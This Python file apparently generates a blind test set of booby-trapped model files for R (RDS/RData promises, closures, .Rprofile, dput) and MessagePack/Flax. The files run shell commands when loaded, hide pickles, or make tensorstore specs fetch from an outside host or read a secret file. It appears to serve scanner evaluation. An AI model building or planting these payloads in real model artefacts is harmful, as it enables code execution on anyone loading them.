"""The third blind set: R and MessagePack."""

# ruff: noqa: E501  (payloads stand on one line)

from __future__ import annotations

import struct
from collections.abc import Iterator

from corpora.unseen3_base import (
    COMMANDS,
    HOST,
    SECRET,
    Sample,
    as_json,
    call,
    dumps,
    gzipped,
)

EVIL = call("os:system", COMMANDS[0])
Files = dict[str, bytes]
Row = tuple[str, Files, str, str]


# --- R: serialised by hand, in the XDR form ------------------------------------------------------------------------------


def _int(*values: int) -> bytes:
    return struct.pack(f">{len(values)}i", *values)


def _chars(text: str) -> bytes:
    raw = text.encode()
    return _int(0x00040009, len(raw)) + raw


def _symbol(name: str) -> bytes:
    return _int(1) + _chars(name)


def _string(text: str) -> bytes:
    return _int(16, 1) + _chars(text)


NIL, GLOBAL, UNBOUND, BASE = _int(254), _int(253), _int(252), _int(241)


def _lang(name: str, *args: bytes) -> bytes:
    out = _int(6) + _symbol(name)
    for one in args:
        out += _int(2) + one
    return out + NIL


def _promise(code: bytes) -> bytes:
    return _int(5 | 1024) + GLOBAL + UNBOUND + code


def _closure(body: bytes) -> bytes:
    return _int(3 | 1024) + GLOBAL + NIL + body


def _pairs(**values: bytes) -> bytes:
    return b"".join(_int(2 | 1024) + _symbol(name) + value for name, value in values.items()) + NIL


def _list(names: list[str], values: list[bytes], **attributes: bytes) -> bytes:
    tags = _int(2 | 1024) + _symbol("names") + _int(16, len(names)) + b"".join(map(_chars, names))
    rest = b"".join(_int(2 | 1024) + _symbol(k) + v for k, v in attributes.items())
    return _int(19 | 512, len(values)) + b"".join(values) + tags + rest + NIL


def rds(value: bytes) -> bytes:
    return b"X\n" + _int(3, 0x040202, 0x030500, 5) + b"UTF-8" + value


def _r() -> Iterator[Row]:
    run = "import subprocess; subprocess.run(['R', '--no-save', '--no-echo', '-e', \"CODE\"])"
    read = run.replace("CODE", "x <- readRDS('model.rds'); MORE")
    evil = _lang("system", _string(COMMANDS[0]))
    yield "promise", {"model.rds": gzipped(rds(_promise(evil)))}, read.replace("MORE", "print(x)"), "code"
    yield "promise-plain", {"model.rds": rds(_promise(evil))}, read.replace("MORE", "x"), "code"
    model = _list(["coefficients", "predict"], [_int(14, 1) + struct.pack(">d", 0.5), _closure(evil)])
    yield "closure-in-a-list", {"model.rds": gzipped(rds(model))}, read.replace("MORE", "x$predict()"), "code"
    environment = _int(4, 0) + GLOBAL + _pairs(fit=_promise(evil)) + NIL + NIL
    yield "promise-in-environment", {"model.rds": gzipped(rds(environment))}, read.replace("MORE", "x$fit"), "code"
    formula = (
        _int(6 | 512 | 0)
        + _int(2 | 1024)
        + _symbol("class")
        + _string("formula")
        + NIL
        + _symbol("~")
        + _int(2)
        + _lang("I", evil)
        + NIL
    )
    yield "formula", {"model.rds": rds(formula)}, read.replace("MORE", "eval(x[[2]])"), "code"
    call_ = _lang("system2", _string("touch"), _string("/tmp/x"))
    yield "expression", {"model.rds": rds(_int(20, 1) + call_)}, read.replace("MORE", "eval(x)"), "code"
    hidden = b"RDX3\n" + rds(_pairs(fit=_promise(evil), summary=_closure(evil)))
    yield "rdata", {"model.RData": gzipped(hidden)}, run.replace("CODE", "load('model.RData'); fit"), "code"
    yield "rdata-print", {"model.rda": hidden}, run.replace("CODE", "load('model.rda'); summary()"), "code"
    start = b"RDX3\n" + rds(_pairs(**{".First": _closure(evil)}))
    yield (
        "first",
        {".RData": gzipped(start)},
        "import subprocess; subprocess.run(['R', '--no-save', '--no-echo', '-e', '1'])",
        "code",
    )
    yield (
        "profile",
        {".Rprofile": b"system('touch /tmp/x')\n", "model.rds": gzipped(rds(_int(14, 0)))},
        run.replace("CODE", "1"),
        "code",
    )
    yield (
        "dump",
        {"model.R": b'`fit` <-\nstructure(list(a = 1), class = "lm")\nsystem("touch /tmp/x")\n'},
        run.replace("CODE", "eval(parse('model.R'))"),
        "code",
    )
    yield (
        "dput",
        {"model.txt": b"structure(list(a = {system('touch /tmp/x'); 1}), class = 'glm')\n"},
        run.replace("CODE", "x <- dget('model.txt')"),
        "code",
    )


# --- MessagePack and Flax ----------------------------------------------------------------------------------------------


def _pack(value: object) -> bytes:
    if isinstance(value, bool):
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        return b"\xd3" + struct.pack(">q", value)
    if isinstance(value, bytes):
        return b"\xc6" + struct.pack(">I", len(value)) + value
    if isinstance(value, str):
        raw = value.encode()
        return b"\xdb" + struct.pack(">I", len(raw)) + raw
    if isinstance(value, dict):
        return b"\xdf" + struct.pack(">I", len(value)) + b"".join(_pack(k) + _pack(v) for k, v in value.items())
    if isinstance(value, list | tuple):
        return b"\xdd" + struct.pack(">I", len(value)) + b"".join(map(_pack, value))
    raise TypeError(type(value).__name__)


def _msgpack() -> Iterator[Row]:
    load = "import msgpack, msgpack_numpy as m; msgpack.unpackb(open(f, 'rb').read(), object_hook=m.decode, raw=True, strict_map_key=False)"
    array = {b"nd": True, b"type": "|O", b"kind": b"O", b"shape": [1], b"data": dumps(EVIL, 2)}
    yield "object-array", {"flax_model.msgpack": _pack({"params": {"w": array}})}, load, "code"
    yield "object-array-in-list", {"weights.msgpack": _pack([1, [array]])}, load, "code"
    patched = "import msgpack_numpy as m, msgpack; m.patch(); msgpack.unpackb(open(f, 'rb').read(), raw=True, strict_map_key=False)"
    yield "object-array-patched", {"ckpt_100": _pack({"opt": array, "step": 100})}, patched, "code"
    yield (
        "pickle-in-bytes",
        {"state.msgpack": _pack({"rng": dumps(EVIL, 5)})},
        "import msgpack, pickle; pickle.loads(msgpack.unpackb(open(f, 'rb').read())['rng'])",
        "code",
    )
    yield (
        "pickle-named-msgpack",
        {"flax_model.msgpack": dumps(EVIL, 4)},
        "import pickle; pickle.load(open(f, 'rb'))",
        "code",
    )
    zarr = {"driver": "zarr", "kvstore": {"driver": "http", "base_url": f"http://{HOST}/"}}
    yield (
        "tensorstore-cast",
        {"spec.json": as_json({"driver": "cast", "dtype": "float32", "base": zarr})},
        "import json, tensorstore as t; t.open(json.load(open(f))).result()",
        "network",
    )
    local = {"driver": "json", "kvstore": {"driver": "file", "path": SECRET}}
    yield (
        "tensorstore-file",
        {"spec.json": as_json(local)},
        "import json, tensorstore as t; t.open(json.load(open(f))).result().read().result()",
        "file",
    )


def samples() -> Iterator[Sample]:
    families = (("r", _r(), "main"), ("msgpack", _msgpack(), "main"))
    for family, rows, env in families:
        for name, files, loader, effect in rows:
            yield Sample(f"{family}/{name}", files, loader, effect, env)
